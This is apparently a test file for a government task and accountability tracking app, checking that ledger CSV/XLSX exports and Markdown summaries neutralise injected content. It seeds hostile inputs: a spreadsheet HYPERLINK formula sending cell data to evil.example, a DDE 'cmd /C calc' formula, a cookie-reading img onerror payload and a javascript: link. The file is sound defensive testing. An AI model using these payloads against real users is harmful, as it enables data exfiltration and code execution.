import { createHash } from 'node:crypto';
import type { Actor } from '../../src/common/actor.js';
import { fingerprint } from '../../src/exchange/disclosure-content.js';
import { disclosureDecider } from '../../src/disclosure/domain/disclosure.decider.js';
import { ReadModels } from '../../projections/read-models.js';
import { UNRECORDED_OUTPUT_ENCODING } from '../../src/exchange/output-encoding.js';
import { assignInput, mutate, registerInspection, tokens } from '../support/task-api.js';
import { startTestApp, type TestApp } from '../support/test-app.js';

const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看进展")';
const NAME = '<img src=x onerror=alert(document.cookie)>';

const PUBLISH = `mutation($input: PublishDisclosureInput!) {
  publishDisclosure(input: $input) { disclosure { disclosureId sha256 size contentUrl } } }`;
const VERIFY = `query($id: ID!) { verifyDisclosure(id: $id) { ok regeneratedSha256 } }`;

describe('output encoding of exports and disclosures (issue 19, item 4)', () => {
  let t: TestApp;
  let tk: Awaited<ReturnType<typeof tokens>>;
  let officer: string;
  const base = () => t.url.replace(/\/graphql$/, '');
  const get = async (path: string, token = tk.auditor) => {
    const res = await fetch(base() + path, { headers: { authorization: `Bearer ${token}` } });
    expect(res.status).toBe(200);
    return Buffer.from(await res.arrayBuffer());
  };

  beforeAll(async () => {
    t = await startTestApp({ now: '2024-09-10T00:00:00.000Z' });
    tk = await tokens(t);
    officer = await t.token('DISCLOSURE_OFFICER', '省政府新闻办', { name: '公开专员' });
    await registerInspection(t, tk.office, 'JX-3');
    await mutate(t, tk.office, 'listTask', {
      taskId: 'T01',
      inspectionId: 'JX-3',
      number: 1,
      title: '@SUM(1+1)*cmd|" /C calc"!A0',
      problem: '-2+3',
    });
    await mutate(t, tk.office, 'assignTask', assignInput('T01'));
    await mutate(t, tk.lead, 'reportProgress', {
      taskId: 'T01',
      scheduleStatus: 'BEHIND',
      summary: FORMULA,
      evidence: [],
    });
    const discipline = await t.token('DISCIPLINE_AUTHORITY', '省纪委监委');
    const caseInput = { caseId: 'case1', personId: 'p1' };
    const cases = [
      [
        'openAccountabilityCase',
        {
          caseId: 'case1',
          inspectionId: 'JX-3',
          referenceNumber: '赣督移〔2024〕1号',
          referredProblem: '移交问题 [链接](javascript:alert(1)) *强调*',
          linkedTaskIds: ['task-T01'],
          investigatingBody: '省纪委监委',
          referredOn: '2024-08-21',
        },
        tk.office,
      ],
      [
        'addAccountablePerson',
        {
          ...caseInput,
          name: NAME,
          positionAtTheTime: '时任某局局长 | 注入列',
          currentPosition: '某局调研员',
          rank: 'DIVISION',
          organisationType: 'GOVERNMENT',
          responsibilityType: 'PRIMARY',
        },
        discipline,
      ],
      [
        'recordSanction',
        {
          ...caseInput,
          sanctionId: 's1',
          kind: 'ADMONISHMENT',
          decidingBody: '省纪委监委',
          decidedOn: '2024-09-05',
          publishedOn: '2024-09-06',
          publishedIn: '江西日报',
        },
        discipline,
      ],
    ] as const;
    for (const [name, input, token] of cases) {
      const type = name[0].toUpperCase() + name.slice(1) + 'Input';
      const res = await t.gql(
        `mutation($input: ${type}!) { ${name}(input: $input) { case { id } } }`,
        { input },
        token,
      );
      expect(res.errors).toBeUndefined();
    }
  });
  afterAll(() => t.close());

  it('CSV and XLSX exports: a summary that is a formula comes out as text', async () => {
    const csv = (await get('/api/export/ledger.csv')).toString('utf8');
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""点击查看进展"")"`);
    expect(csv).toContain(`'@SUM(1+1)*cmd|"" /C calc""!A0`);
    expect(csv).toContain(`'-2+3`);
    // No cell starts with a formula character any more.
    expect(csv).not.toMatch(/(^|,)"?[=+\-@\t\r]/m);
    const ExcelJS = (await import('exceljs')).default;
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await get('/api/export/ledger.xlsx')) as unknown as ArrayBuffer);
    const values: unknown[] = [];
    wb.worksheets[0].eachRow((row) => values.push(...(row.values as unknown[]).slice(1)));
    expect(values).toContain(`'${FORMULA}`);
    expect(values.filter((v) => typeof v === 'string' && /^[=+\-@\t\r]/.test(v))).toEqual([]);
  });

  it('a published CSV disclosure is neutralised, verifies, and regenerates the same bytes', async () => {
    const res = await t.gql<{
      publishDisclosure: {
        disclosure: { disclosureId: string; sha256: string; contentUrl: string };
      };
    }>(
      PUBLISH,
      { input: { kind: 'LEDGER', channel: 'GOVERNMENT_WEBSITE', title: '台账', format: 'CSV' } },
      officer,
    );
    expect(res.errors).toBeUndefined();
    const d = res.data!.publishDisclosure.disclosure;
    const bytes = await get(d.contentUrl);
    expect(bytes.toString('utf8')).toContain(`"'=HYPERLINK(`);
    expect(createHash('sha256').update(bytes).digest('hex')).toBe(d.sha256);
    const history = await t.gql<{
      history: { edges: { node: { data: { encoding?: number } } }[] };
    }>(
      `{ history(streamId: "disclosure-${d.disclosureId}") { edges { node { data } } } }`,
      {},
      tk.auditor,
    );
    expect(history.data!.history.edges[0].node.data.encoding).toBe(2);
    const verified = await t.gql<{ verifyDisclosure: { ok: boolean } }>(
      VERIFY,
      { id: d.disclosureId },
      officer,
    );
    expect(verified.data!.verifyDisclosure.ok).toBe(true);
  });

  it('the Markdown accountability summary shows names and problems as text, not markup', async () => {
    const md = (await get('/api/export/accountability-summary.md')).toString('utf8');
    expect(md).toContain('&lt;img src=x onerror=alert(document.cookie)&gt;');
    expect(md).not.toContain('<img');
    expect(md).toContain('\\[链接\\](javascript:alert(1)) \\*强调\\*');
    expect(md).toContain('时任某局局长 \\| 注入列');
    // The table keeps its six columns on the person's row.
    const row = md.split('\n').find((l) => l.includes('&lt;img'))!;
    expect(row.split(/(?<!\\)\|/).length - 2).toBe(6);
  });

  it('a disclosure published before encodings were recorded still verifies and reproduces', async () => {
    // As the previous version recorded it: no `encoding` in the event, content rendered as it was.
    const db = t.app.get(ReadModels).database;
    const spec = { kind: 'LEDGER', format: 'CSV', position: null } as const;
    const old = await fingerprint(db, { ...spec, encoding: UNRECORDED_OUTPUT_ENCODING });
    const officerActor: Actor = {
      id: 'officer',
      name: '公开专员',
      roles: ['DISCLOSURE_OFFICER'],
      organisation: '省政府新闻办',
    };
    await t.command(
      disclosureDecider,
      'old-1',
      {
        type: 'PublishDisclosure',
        disclosureId: 'old-1',
        kind: 'LEDGER',
        channel: 'GOVERNMENT_WEBSITE',
        title: '旧的公开',
        format: 'CSV',
        asOfPosition: String(old.position),
        asOfTime: old.at,
        sha256: old.sha256,
        size: old.size,
      },
      officerActor,
    );
    const verified = await t.gql<{ verifyDisclosure: { ok: boolean; regeneratedSha256: string } }>(
      VERIFY,
      { id: 'old-1' },
      officer,
    );
    expect(verified.data!.verifyDisclosure).toEqual({ ok: true, regeneratedSha256: old.sha256 });
    const bytes = await get('/api/disclosures/old-1/content');
    expect(createHash('sha256').update(bytes).digest('hex')).toBe(old.sha256);
    // Byte-identical to what it was: the formula as it was then, unneutralised.
    expect(bytes.toString('utf8')).toContain(`"=HYPERLINK(`);
  });
});
